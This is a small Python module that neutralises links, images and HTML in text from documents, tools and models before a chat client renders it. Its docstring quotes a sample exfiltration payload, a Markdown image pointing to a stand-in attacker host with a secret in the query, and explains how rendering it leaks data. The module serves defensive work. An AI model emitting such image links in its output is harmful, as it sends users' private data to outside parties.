"""Text from documents, tools and models, made inert for whoever renders Markdown: no link, no image, no HTML.

A chat client that shows `![x](https://evil.example/?q=secret)` fetches it, and tells a stranger what the answer knew.
"""

import re
from typing import Final

_SCHEME: Final = re.compile(
    r"(?<![\w.+-])([A-Za-z][A-Za-z0-9+.-]{1,20}):(?=//)|\b(mailto|data|javascript|vbscript|tel):", re.I
)
_WWW: Final = re.compile(r"\b(www)\.(?=\w)", re.IGNORECASE)
_AT: Final = re.compile(r"(?<=[\w.+-])@(?=[\w-]+\.\w)")
_TAG: Final = re.compile(r"<(?=[A-Za-z/!?])")


def inert(text: str) -> str:
    """The text, readable as it was, in which no client finds anything to follow, to fetch or to run.

    Addresses are written as people write them to keep others from clicking: https[:]//example.org, www[.]example.org.
    """
    said = _SCHEME.sub(lambda match: f"{match[1] or match[2]}[:]", text)
    said = _TAG.sub("‹", _AT.sub("[@]", _WWW.sub(r"\1[.]", said)))
    return re.sub(r"\](?=[\[(:])", "] ", said)
